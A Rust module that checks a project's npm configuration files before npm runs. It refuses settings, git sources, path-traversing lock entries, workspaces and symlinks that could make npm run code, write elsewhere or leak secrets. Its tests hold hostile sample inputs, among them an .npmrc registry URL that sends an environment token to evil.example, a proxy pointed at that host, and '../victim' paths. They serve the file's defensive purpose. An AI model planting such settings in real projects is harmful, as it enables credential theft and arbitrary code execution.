//! What a project may settle for npm, looked at before npm sees it: whoever builds a project has not read it, perhaps, and
//! npm would let it name programs to run, places to write, and who is told what stands in the environment.

use std::collections::BTreeSet;
use std::fs;
use std::io::{self, Read as _};
use std::path::Path;

use serde_json::{Map, Value};

use crate::project::{ProjectError, file};

/// The project's lock file.
pub(super) const LOCK: &str = "package-lock.json";
const MANIFEST: &str = "package.json";

/// The most of one of these files that is read.
const BYTES_MAX: u64 = 16 << 20;

/// What a project's `.npmrc` may set; beside these, `@scope:registry`.
const SETTINGS: &[&str] = &["omit-lockfile-registry-resolved", "ignore-scripts", "registry"];

/// Where `package.json` names packages.
const DEPENDENCIES: &[&str] =
    &["dependencies", "devDependencies", "optionalDependencies", "peerDependencies", "overrides"];

/// Servers whose addresses npm takes for those of a git repository.
const GIT_HOSTS: &[&str] = &["github.com", "gist.github.com", "gitlab.com", "bitbucket.org", "git.sr.ht"];

/// An error if the project would have npm do more than fetch packages into its own `node_modules`.
pub(super) fn check(home: &Path) -> Result<(), ProjectError> {
    let refused = |name: &str| {
        let path = home.join(name);
        move |problem: String| ProjectError::Manifest { path, problem }
    };
    let kind = |name: &str| match fs::symlink_metadata(home.join(name)) {
        Ok(metadata) => Ok(Some(metadata.file_type())),
        Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(None),
        Err(error) => Err(file(&home.join(name))(error)),
    };
    if kind("node_modules")?.is_some_and(|kind| !kind.is_dir()) {
        return Err(refused("node_modules")("it is no directory, or a link to one; remove it".to_owned()));
    }
    if kind("npm-shrinkwrap.json")?.is_some() {
        return Err(refused("npm-shrinkwrap.json")(format!("only `{LOCK}` is read; rename it")));
    }
    for name in [MANIFEST, LOCK, ".npmrc"] {
        if kind(name)?.is_some_and(|kind| !kind.is_file()) {
            return Err(refused(name)("it is no plain file".to_owned()));
        }
    }
    if let Some(text) = read(&home.join(".npmrc"))? {
        settings(&text).map_err(refused(".npmrc"))?;
    }
    if let Some(text) = read(&home.join(MANIFEST))? {
        object(&text).and_then(|text| manifest(&text)).map_err(refused(MANIFEST))?;
    }
    if let Some(text) = read(&home.join(LOCK))? {
        object(&text).and_then(|text| lock(&text)).map_err(refused(LOCK))?;
    }
    Ok(())
}

/// The text of a file, if there is one.
fn read(path: &Path) -> Result<Option<String>, ProjectError> {
    let mut text = String::new();
    let opened = match fs::File::open(path) {
        Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(None),
        opened => opened.map_err(file(path))?,
    };
    opened.take(BYTES_MAX + 1).read_to_string(&mut text).map_err(file(path))?;
    if text.len() as u64 > BYTES_MAX {
        let problem = format!("it has more than {BYTES_MAX} bytes");
        return Err(ProjectError::Manifest { path: path.to_owned(), problem });
    }
    Ok(Some(text))
}

fn object(text: &str) -> Result<Map<String, Value>, String> {
    serde_json::from_str(text).map_err(|error| error.to_string())
}

fn settings(text: &str) -> Result<(), String> {
    if text.contains("${") {
        return Err("it takes settings from the environment: `${…}` is for your own `~/.npmrc`".to_owned());
    }
    for line in text.split(['\r', '\n']).map(str::trim) {
        if line.is_empty() || line.starts_with(['#', ';']) {
            continue;
        }
        let key = line.split('=').next().unwrap_or_default().trim();
        let is_scope = key.starts_with('@') && key.ends_with(":registry");
        if !is_scope && !SETTINGS.contains(&key) {
            let may = SETTINGS.iter().map(|one| format!("`{one}`")).collect::<Vec<_>>().join(", ");
            return Err(format!(
                "`{key}` is not for a project to set: it may set {may} and `@scope:registry`; all else is for your own `~/.npmrc`"
            ));
        }
    }
    Ok(())
}

fn manifest(manifest: &Map<String, Value>) -> Result<(), String> {
    if manifest.contains_key("workspaces") {
        return Err("`workspaces` are other directories, which npm would empty: a policy is built alone".to_owned());
    }
    DEPENDENCIES.iter().filter_map(|one| manifest.get(*one)).try_for_each(wanted)
}

/// Which packages are wanted: texts, and in `overrides` objects of them.
fn wanted(value: &Value) -> Result<(), String> {
    match value {
        Value::Object(members) => members.values().try_for_each(wanted),
        Value::String(from) if is_git(from) => Err(from_git(from)),
        _ => Ok(()),
    }
}

fn from_git(from: &str) -> String {
    format!(
        "`{from}` is a package from git, which would run `git` here: name a version in a registry, or put its sources in the project"
    )
}

/// Whether npm would take this for a git repository, or something that is not known here.
fn is_git(from: &str) -> bool {
    let from = from.trim().to_ascii_lowercase();
    for scheme in ["https://", "http://"] {
        if let Some(rest) = from.strip_prefix(scheme) {
            let server = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
            let host = server.split(':').next().unwrap_or_default();
            return server.contains('@') || GIT_HOSTS.contains(&host.strip_prefix("www.").unwrap_or(host));
        }
    }
    let is_here = ["file:", "npm:", "./", "../"].iter().any(|begin| from.starts_with(begin));
    // `owner/name` is one, too.
    !is_here && from.contains(['/', ':'])
}

fn lock(lock: &Map<String, Value>) -> Result<(), String> {
    let version = lock.get("lockfileVersion").and_then(Value::as_u64);
    let packages = lock.get("packages").and_then(Value::as_object);
    let Some(packages) = packages.filter(|_| matches!(version, Some(2 | 3))) else {
        return Err("it is of a version that is not read here: remove it, and it is made anew".to_owned());
    };
    let is_link = |package: &Value| package.get("link").is_some_and(|link| *link != Value::Bool(false));
    let links: BTreeSet<_> = packages.iter().filter(|(_, one)| is_link(one)).map(|(place, _)| place.as_str()).collect();
    for (place, package) in packages {
        let parts: Vec<_> = place.split(['/', '\\']).collect();
        let is_within = parts[0] == "node_modules" && !parts.iter().any(|part| ["", ".", ".."].contains(part));
        let is_source = !parts.iter().any(|part| part.eq_ignore_ascii_case("node_modules"));
        let is_below_link = (1..parts.len()).any(|end| links.contains(parts[..end].join("/").as_str()));
        if !is_within && !is_source || is_within && is_below_link {
            return Err(format!("`{place}` lies outside the project's own `node_modules`"));
        }
        match package.get("resolved") {
            None => {}
            Some(_) if is_link(package) => {}
            Some(Value::String(from)) if !is_git(from) => {}
            Some(Value::String(from)) => return Err(from_git(from)),
            Some(_) => return Err(format!("`{place}`: `resolved` is no text")),
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(files: &[(&str, &str)]) -> Result<(), String> {
        let home = tempfile::tempdir().unwrap();
        for (name, text) in files {
            fs::write(home.path().join(name), text).unwrap();
        }
        check(home.path()).map_err(|error| error.to_string().replace(&home.path().display().to_string(), ""))
    }

    #[test]
    fn what_the_template_and_a_usual_project_settle_is_taken() {
        let npmrc = "omit-lockfile-registry-resolved=true\nignore-scripts = true\n; note\n# note\n\r\n\
            registry=https://registry.example/\n@acme:registry=https://npm.acme.example/";
        let manifest = r#"{"dependencies":{"attorn-policy":"file:vendor/attorn-policy","a":"^1.2.3","b":"npm:c@1","d":"latest",
            "e":"https://registry.example/e.tgz"},"overrides":{"a":{"x":"1 || 2"}}}"#;
        let lock = r#"{"lockfileVersion":3,"packages":{"":{},"../../../sdk/policy/typescript":{},
            "node_modules/attorn-policy":{"resolved":"../../../sdk/policy/typescript","link":true},
            "node_modules/a":{},"node_modules/@s/a/node_modules/b":{"resolved":"https://registry.example/b.tgz"}}}"#;
        assert_eq!(said(&[(".npmrc", npmrc), (MANIFEST, manifest), (LOCK, lock)]), Ok(()));
        assert_eq!(said(&[(MANIFEST, "{}")]), Ok(()));
        let template = include_str!("../../../templates/typescript/npmrc.in");
        assert_eq!(settings(template), Ok(()));
    }

    #[test]
    fn a_setting_that_runs_writes_or_tells_is_refused() {
        for npmrc in [
            "git=./tools/git",
            "registry=https://a.example/\rgit=./tools/git",
            "\"git\"=./tools/git",
            "git[]=./tools/git",
            "git",
            "[registry]\nx=1",
            "cache=/srv/alice/x",
            "logs-dir=/srv/alice/x",
            "prefix=/usr",
            "node-options=--require=./x.cjs",
            "script-shell=./sh",
            "ignore-scripts-not=1",
            "//evil.example/:_authToken=x",
            "https-proxy=http://evil.example",
            "cafile=x",
            "scope:registry=x",
        ] {
            let error = said(&[(".npmrc", npmrc)]).unwrap_err();
            assert!(error.contains("is not for a project to set"), "{npmrc}: {error}");
        }
        for npmrc in ["registry=http://evil.example/${ATTORN_TOKEN}/", "; ${HOME}", "${X}=1"] {
            let error = said(&[(".npmrc", npmrc)]).unwrap_err();
            assert!(error.contains("it takes settings from the environment"), "{npmrc}: {error}");
        }
    }

    #[test]
    fn packages_from_git_are_refused_wherever_they_are_named() {
        for from in [
            "git+ssh://git@github.com/a/b.git#c",
            "git://a.example/b",
            "GIT+https://a.example/b",
            "git@github.com:a/b",
            "github:a/b",
            "gist:1234",
            "a/b",
            "a/b#main",
            "ssh://a.example/b",
            "https://github.com/a/b.git",
            "https://WWW.GitHub.com/a/b",
            "https://x@gitlab.com/a/b",
            "https://github.com:443/a/b",
            " git+file:///a",
        ] {
            for manifest in [
                format!(r#"{{"dependencies":{{"a":"{from}"}}}}"#),
                format!(r#"{{"optionalDependencies":{{"a":"{from}"}}}}"#),
                format!(r#"{{"overrides":{{"a":{{"b":"{from}"}}}}}}"#),
            ] {
                assert!(said(&[(MANIFEST, &manifest)]).unwrap_err().contains("is a package from git"), "{manifest}");
            }
            let lock = format!(r#"{{"lockfileVersion":3,"packages":{{"node_modules/a":{{"resolved":"{from}"}}}}}}"#);
            assert!(said(&[(LOCK, &lock)]).unwrap_err().contains("is a package from git"), "{lock}");
        }
    }

    #[test]
    fn a_lock_file_names_nothing_outside_the_projects_own_packages() {
        for places in [
            r#""../victim/node_modules/a":{}"#,
            r#""vendor/a/node_modules/b":{}"#,
            r#""/srv/alice/node_modules/b":{}"#,
            r#""node_modules/../../victim":{}"#,
            r#""node_modules\\..\\..\\victim":{}"#,
            r#""node_modules/a":{"link":true,"resolved":"../victim"},"node_modules/a/node_modules/b":{}"#,
            r#""node_modules/a":{"link":1,"resolved":"../victim"},"node_modules/a/x":{}"#,
        ] {
            let lock = format!(r#"{{"lockfileVersion":3,"packages":{{{places}}}}}"#);
            let error = said(&[(LOCK, &lock)]).unwrap_err();
            assert!(error.contains("lies outside"), "{places}: {error}");
        }
        for lock in ["{}", r#"{"lockfileVersion":1,"dependencies":{}}"#, r#"{"lockfileVersion":3}"#] {
            assert!(said(&[(LOCK, lock)]).unwrap_err().contains("it is of a version"), "{lock}");
        }
        assert!(said(&[(LOCK, "[]")]).is_err());
        assert!(said(&[("npm-shrinkwrap.json", "{}")]).unwrap_err().contains("only `package-lock.json` is read"));
    }

    #[test]
    fn other_directories_are_not_emptied() {
        let error = said(&[(MANIFEST, r#"{"workspaces":["../victim"]}"#)]).unwrap_err();
        assert!(error.contains("`workspaces` are other directories"), "{error}");
    }

    #[cfg(unix)]
    #[test]
    fn a_link_where_npm_writes_is_refused() {
        for (name, problem) in [
            ("node_modules", "it is no directory, or a link to one"),
            (LOCK, "it is no plain file"),
            (MANIFEST, "it is no plain file"),
            (".npmrc", "it is no plain file"),
        ] {
            let (home, victim) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
            for target in [victim.path().to_owned(), victim.path().join("nowhere")] {
                let link = home.path().join(name);
                std::os::unix::fs::symlink(&target, &link).unwrap();
                let error = check(home.path()).unwrap_err().to_string();
                assert!(error.contains(problem), "{name}: {error}");
                fs::remove_file(link).unwrap();
            }
        }
    }
}
